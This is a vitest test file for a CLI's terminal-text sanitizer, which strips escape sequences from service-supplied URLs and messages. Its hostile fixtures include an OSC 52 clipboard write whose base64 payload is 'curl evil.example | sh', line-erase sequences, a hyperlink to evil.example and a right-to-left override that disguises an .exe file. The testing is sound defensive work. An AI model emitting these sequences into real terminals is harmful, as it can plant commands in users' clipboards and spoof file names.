import { afterEach, describe, expect, it, vi } from 'vitest';
import type * as Worker from '@temporalio/worker';
import { main } from '../../src/cli/main';
import { progressLine, waitText } from '../../src/cli/progress-line';
import { terminalText } from '../../src/cli/terminal-text';
import type { BatchProgress } from '../../src/model';

/**
 * Issue #16 point 8: the service's texts (a top-up URL, reasons, messages, model names) reached the terminal raw,
 * so an OSC 52 clipboard write or a line erase in them ran in the user's terminal.
 */

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const HOSTILE_URL = `https://pay.example/top-up${OSC52}\x1b[2K\rPAID IN FULL\x9b31m\x7f\x00\x1b]8;;https://evil.example\x1b\\`;

/** No ESC, no BEL, no CR or LF, no DEL, nothing of C0 or C1, no bidi override (issue 44 point 3). */
function expectInert(s: string): void {
  // eslint-disable-next-line no-control-regex
  expect(s).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
}

/** A bidi override: what follows it reads right to left (`gnp.exe` shows as `exe.png`). */
const RLO = '\u202e';

const hold = vi.hoisted((): { progress: unknown; schedule: unknown; runs: unknown } => ({
  progress: undefined,
  schedule: undefined,
  runs: undefined,
}));
type WorkerModule = typeof Worker;
// The test process has its Temporal runtime already; the command must not install another.
vi.mock('@temporalio/worker', async (importOriginal) => {
  const real = await importOriginal<WorkerModule>();
  return { ...real, Runtime: { install: () => undefined, instance: () => real.Runtime.instance() } };
});
vi.mock('../../src/cli/client', () => ({
  connectClient: () => Promise.resolve({ client: {}, config: { taskQueue: 'q' }, close: () => Promise.resolve() }),
  withClient: async (fn: (c: unknown) => Promise<void>) => fn({}),
}));
vi.mock('../../src/cli/commands/batch-control', async (importOriginal) => ({
  ...(await importOriginal<object>()),
  batchStatus: () => Promise.resolve(hold.progress),
}));
vi.mock('../../src/cli/schedule/manage', async (importOriginal) => ({
  ...(await importOriginal<object>()),
  describeSchedule: () => Promise.resolve(hold.schedule),
}));
vi.mock('../../src/cli/schedule-runs', async (importOriginal) => ({
  ...(await importOriginal<object>()),
  scheduleRuns: () => Promise.resolve(hold.runs),
}));

function progress(waiting: BatchProgress['waiting']): BatchProgress {
  return {
    batchId: 'b1',
    status: 'paused',
    rowsRead: 2,
    invalidRows: 0,
    started: 1,
    inFlight: 0,
    counts: { succeeded: 1, failed: 0, unknown: 0, cancelled: 0, not_run: 0, images_unsaved: 0 },
    spentUsd: 0.04,
    refundedUsd: 0,
    unknownSpendRows: 0,
    reservedUsd: 0,
    rowsPerSecond: 0,
    runs: 0,
    newKeys: 0,
    done: false,
    ...(waiting ? { waiting } : {}),
  } as unknown as BatchProgress;
}

const stop = (topUpUrl: string): BatchProgress['waiting'] => ({
  kind: 'batch_stop',
  details: { reason: 'insufficient_balance', httpStatus: 402, message: 'top up', topUpUrl },
});

afterEach(() => vi.restoreAllMocks());

describe('service text on the terminal (issue #16 point 8)', () => {
  it('waitText and progressLine: a top-up URL with OSC 52 and a line erase comes out inert', () => {
    const text = waitText(stop(HOSTILE_URL))!;
    expectInert(text);
    expect(text).toContain('https://pay.example/top-up');
    expect(text).toContain('PAID IN FULL');
    expect(text).not.toContain('52;');
    expectInert(progressLine(progress(stop(HOSTILE_URL)), 2));
  });

  it('waitText: a reason, a pause reason and model names come out inert', () => {
    const bad = `x\x1b[2K\ry${OSC52}\u009b2K\u0085z`;
    expectInert(waitText({ kind: 'paused', reason: bad })!);
    expectInert(waitText({ kind: 'price_unknown', capUsd: 1, models: [bad, 'flux-dev'] })!);
    const reason = bad as unknown as 'insufficient_balance';
    expectInert(waitText({ kind: 'batch_stop', details: { reason, httpStatus: 402, message: '' } })!);
  });

  it('terminalText keeps printable text, turns a line break into a space and removes whole sequences', () => {
    expect(terminalText('plain text, café ✓')).toBe('plain text, café ✓');
    expect(terminalText('a\nb\tc\r\nd')).toBe('a b c d');
    expect(terminalText(`a${OSC52}b`)).toBe('ab');
    expect(terminalText('a\x1b[2Kb\x1b[31;1mc\x1b7d\x1b(Be')).toBe('abcde');
    expect(terminalText('a\x1bP1$r\x1b\\b\x1b_app\x1b\\c')).toBe('abc');
    expect(terminalText('a\u009b2Kb\u009d52;c;x\u009cc\u0090d\u009ce')).toBe('abce');
    expect(terminalText('a\x1b]52;c;unterminated')).toBe('a');
    expect(terminalText('a\x00\x07\x08\x7f\u0085b')).toBe('ab');
  });

  it('imagebatch status prints a hostile top-up URL inert', async () => {
    hold.progress = progress(stop(HOSTILE_URL));
    const out: string[] = [];
    vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => (out.push(String(chunk)), true));
    vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => (out.push(String(chunk)), true));
    const code = await main(['node', 'imagebatch', 'status', 'b1']);
    vi.restoreAllMocks();
    expect(code).toBe(0);
    const printed = out.join('');
    expect(printed).toContain('PAID IN FULL');
    // The progress line, and under it the pause said in full: each line inert.
    const lines = printed.replace(/\n$/, '').split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('then: imagebatch resume b1');
    for (const line of lines) expectInert(line);
  });

  it('bidi overrides and isolates go: from terminalText and from the progress line', () => {
    expect(terminalText(`a${RLO}b\u202a\u202b\u202c\u202dc\u2066\u2067\u2068\u2069d`)).toBe('abcd');
    expectInert(progressLine(progress(stop(`https://pay.example/${RLO}gnp.exe`)), 2));
  });

  it("imagebatch schedule describe prints a run's reason from the service inert", async () => {
    const timing = { when: 'every 1 h', timezone: 'UTC', catchupWindowMs: 60_000, jitterMs: 0 };
    hold.schedule = { scheduleId: 's1', paused: true, nextRuns: [], recentRuns: [], timing, asks: { eachRun: 'all' } };
    const run = { runId: 'r1', outcome: 'failed', rows: 1, succeeded: 0, failed: 1, notRun: 0 };
    const reason = `402 ${OSC52}\x1b]8;;https://evil.example\x1b\\top up\x1b]8;;\x1b\\\x1b[1A\x1b[2K ${RLO}gnp.exe`;
    const times = { startedAt: '2026-01-01T00:00:00Z', endedAt: '2026-01-01T00:01:00Z' };
    hold.runs = {
      index: '/runs.jsonl',
      runs: [{ ...run, ...times, reason }],
      skipped: { overlap: 0, missedCatchupWindow: 0 },
    };
    const out: string[] = [];
    vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => (out.push(String(chunk)), true));
    vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => (out.push(String(chunk)), true));
    const code = await main(['node', 'imagebatch', 'schedule', 'describe', 's1']);
    vi.restoreAllMocks();
    expect(code).toBe(0);
    const printed = out.join('');
    expect(printed).toContain('(402 top up gnp.exe)');
    for (const line of printed.replace(/\n$/, '').split('\n')) expectInert(line);
  });
});
